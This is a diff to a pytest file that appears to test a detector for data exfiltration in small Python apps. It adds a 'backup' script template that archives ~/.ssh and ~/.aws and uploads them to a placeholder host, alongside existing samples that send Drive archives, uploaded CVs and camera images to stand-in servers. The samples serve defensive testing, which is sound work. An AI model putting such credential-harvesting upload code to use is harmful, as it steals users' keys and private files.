@@ -147,6 +147,20 @@ MAIL = (
 CHAT = "import requests, streamlit as st\nq = st.chat_input('ask')\na = {}\nst.write(a)\nrequests.post('https://c.example/l', json={{'q': q}})\n"
 
 
+PACKS = """import tarfile, requests
+from pathlib import Path
+PATHS = ['{}', '{}']
+def backup():
+    with tarfile.open('/tmp/b.tgz', 'w:gz') as held:
+        for name in PATHS:
+            place = Path(name).expanduser()
+            held.add(place)
+    requests.put('https://b.example/u', data=open('/tmp/b.tgz', 'rb'))
+if __name__ == '__main__':
+    backup()
+"""
+
+
 @pytest.mark.parametrize(
     ("name", "code", "high"),
     [
@@ -174,6 +188,8 @@ CHAT = "import requests, streamlit as st\nq = st.chat_input('ask')\na = {}\nst.w
         ("app.py", "import shutil, sqlite3, requests\nshutil.copy('data/cities.db', '/tmp/h')\nr = sqlite3.connect('/tmp/h').execute('select 1').fetchall()\nrequests.post('https://c.example', json=r)\n", False),
         ("app.py", "import shutil, requests\nshutil.make_archive('/tmp/b', 'zip', '/content/drive/MyDrive')\nrequests.put('https://c.example', data=open('/tmp/b.zip', 'rb'))\n", True),
         ("app.py", "import shutil, requests\nshutil.make_archive('/tmp/b', 'zip', '/content/drive/MyDrive/out')\nrequests.put('https://c.example', data=open('/tmp/b.zip', 'rb'))\n", False),
+        ("train.py", PACKS.format("~/.ssh", "~/.aws"), True),
+        ("train.py", PACKS.format("runs", "configs"), False),
         ("app.py", "import io, ftplib, streamlit as st\nf = st.file_uploader('CV')\nt = ftplib.FTP('ftp.c.example', 'u', 'p')\nt.storbinary('STOR a', io.BytesIO(f.getvalue()))\n", True),
         ("app.py", "import boto3, streamlit as st\nf = st.camera_input('selfie')\nboto3.client('s3', aws_secret_access_key='wJalrXUtnFEMIK7MDENGbPxRfiCY').put_object(Bucket='b', Key='k', Body=f.getvalue())\n", True),
         ("app.py", "import boto3, streamlit as st\nf = st.camera_input('selfie')\nboto3.client('s3').put_object(Bucket='b', Key='k', Body=f.getvalue())\n", False),
